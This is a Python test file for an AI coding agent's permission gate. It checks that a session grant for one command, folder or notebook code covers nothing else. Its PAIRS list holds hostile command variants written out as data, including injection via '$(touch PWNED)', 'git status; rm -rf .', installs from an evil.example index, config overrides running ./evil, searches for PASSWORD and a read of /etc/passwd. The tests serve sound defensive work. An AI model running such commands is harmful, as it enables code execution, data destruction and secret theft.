"""What "allow for session" stands for: exactly this command line in this folder, exactly this code, edits of this file."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from jupyter_crush.permissions.gate import grant_key, judge
from support.documents.managers import code, notebook, put
from support.tools.tools_room import TOOLS, Room

PAIRS = [
    ("printf hello", "printf -v 'a[$(touch PWNED)]' x"),
    ("pip install requests", "pip install ./evil"),
    ("pip install requests", "pip install -r evil.txt"),
    ("pip install requests", "pip install --index-url=https://evil.example requests"),
    ("npm test", "npm test --userconfig=evilrc"),
    ("npm test", "npm test --script-shell=./evil"),
    ("npm run build", "npm run build -- --config evil.js"),
    ("jupyter kernelspec list", "jupyter kernelspec list --config evil.py"),
    ("jupyter kernelspec list", "jupyter kernelspec install --user evil"),
    ("jupyter kernelspec list", "jupyter kernelspec remove -f python3"),
    ("ps", "ps xeww"),
    ("grep x a.txt", "grep -r PASSWORD ."),
    ("cat a", "cat link-out"),
    ("cat a", "cat a b"),
    ("touch a", "touch dirlink/x"),
    ("git stash list", "git stash clear"),
    ("git stash list", "git stash drop"),
    ("git branch", "git branch -M main gone"),
    ("git branch", "git branch -D main"),
    ("git commit -m x", "git commit --amend -m x"),
    ("git commit -m x", "git commit -m y"),
    ("git tag v1", "git tag -d v1"),
    ("git status", "git status; rm -rf ."),
    ("git status", "git -c core.fsmonitor=./evil status"),
    ("git diff", "git diff --ext-diff"),
    ("ruff check .", "ruff check --fix ."),
    ("ruff check .", "ruff format ."),
    ("go test ./...", "go test -exec ./evil ./..."),
    ("pytest -q", "pytest -q -c evil.ini"),
    ("pytest -q", "pytest -q -p evil"),
    ("make", "make evil"),
    ("make test", "make test SHELL=./evil"),
    ("make test", "make -f Evil test"),
    ("cargo build", "cargo build --config evil.toml"),
    ("ls", "ls -la /"),
    ("ls", "ls "),
    ("ls", " ls"),
    ("ls", "ls\n"),
    ("ls", "LS"),
    ("ls a b", "ls 'a b'"),
    ("ls a  b", "ls a b"),
    ("ls", "ls\u200b"),
    ("echo é", "echo e\u0301"),
    ("echo 1", "echo 1; echo 2"),
    ("find . -name x", "find . -name x -delete"),
    ("sort a", "sort -o b a"),
    ("uniq a", "uniq a b"),
    ("date", "date -s now"),
    ("jq . a", "jq -f evil a"),
    ("wc -l a", "wc -l --files0-from=/etc/passwd"),
]


async def is_covered(room: Room, tool: str, granted: dict[str, Any], wanted: dict[str, Any]) -> bool:
    """Whether a grant of one call lets another through, in the mode in which grants count."""
    given = (await room.prepare(tool, **granted)).ask
    asked = (await room.prepare(tool, **wanted)).ask
    assert given is not None and asked is not None
    grants = {grant_key(given.key)} if given.key is not None and not given.always else set()
    return judge(TOOLS[tool].kind, asked, "ask", grants) == "allow"


async def test_a_grant_of_one_command_line_covers_no_other(tmp_path: Path) -> None:
    room = Room(tmp_path)
    covered = [
        pair for pair in PAIRS if await is_covered(room, "run_command", {"command": pair[0]}, {"command": pair[1]})
    ]
    assert covered == []


async def test_a_grant_covers_its_own_command_line_however_long_it_may_run(tmp_path: Path) -> None:
    room = Room(tmp_path)
    for line in {line for line, _ in PAIRS} | {"cat <<'E'\na\nE", "for f in *; do echo $f; done"}:
        again = {"command": line, "timeout": 7, "description": "the same once more"}
        assert await is_covered(room, "run_command", {"command": line}, again), line


async def test_a_grant_is_bound_to_its_folder_and_no_folder_can_be_named_like_another_command(tmp_path: Path) -> None:
    room = Room(tmp_path)
    for name in (":make x", "sub", '","'):
        (tmp_path / name).mkdir()
    pairs = [
        ({"command": "ls", "cwd": ":make x"}, {"command": "make x:ls"}),
        ({"command": "make x:ls"}, {"command": "ls", "cwd": ":make x"}),
        ({"command": "ls"}, {"command": "ls", "cwd": "sub"}),
        ({"command": "ls", "cwd": "sub"}, {"command": "ls"}),
        ({"command": "ls", "cwd": '","'}, {"command": 'ls","'}),
    ]
    assert [pair for pair in pairs if await is_covered(room, "run_command", *pair)] == []
    assert await is_covered(room, "run_command", {"command": "ls", "cwd": "sub"}, {"command": "ls", "cwd": "./sub/"})


async def test_a_grant_of_code_covers_that_code_in_that_kernel(tmp_path: Path) -> None:
    room = Room(tmp_path)
    for name in ("a.ipynb", "b.ipynb"):
        put(tmp_path, name, notebook(code("c1", "1 + 1"), code("c2", "import os"), code("c3", "1 + 1")))
    one = {"path": "a.ipynb", "code": "1 + 1"}
    assert await is_covered(room, "run_code", one, one)
    others = [
        {"path": "a.ipynb", "code": "1 + 1 "},
        {"path": "a.ipynb", "code": "import os"},
        {**one, "path": "b.ipynb"},
    ]
    assert [other for other in others if await is_covered(room, "run_code", one, other)] == []
    cell = {"path": "a.ipynb", "cell_id": "c1"}
    assert not await is_covered(room, "run_cell", cell, {**cell, "cell_id": "c2"})
    assert not await is_covered(room, "run_cell", cell, {**cell, "path": "b.ipynb"})
    assert await is_covered(room, "run_cell", cell, {**cell, "cell_id": "c3"}), "the same code in another cell"


async def test_what_names_a_file_that_controls_the_machine_is_never_granted(tmp_path: Path) -> None:
    line = {"command": "cat .git/hooks/pre-commit"}
    assert not await is_covered(Room(tmp_path), "run_command", line, line)


@pytest.mark.parametrize(
    ("given", "scope"),
    [
        ({"command": "make test"}, "exactly “make test” in the workspace"),
        ({"command": "make test", "cwd": "sub"}, "exactly “make test” in sub"),
        ({"command": "a\tb"}, "exactly “a⟨U+0009⟩b” in the workspace"),
        ({"command": "ls\n\nrm x"}, "exactly the 3 lines that begin with “ls” in the workspace"),
        ({"command": "x" * 2000}, f"exactly the 2,000 characters that begin with “{'x' * 100}” in the workspace"),
    ],
)
async def test_the_scope_says_what_is_covered(tmp_path: Path, given: dict[str, str], scope: str) -> None:
    (tmp_path / "sub").mkdir()
    ask = (await Room(tmp_path).prepare("run_command", **given)).ask
    assert ask is not None and ask.scope == scope
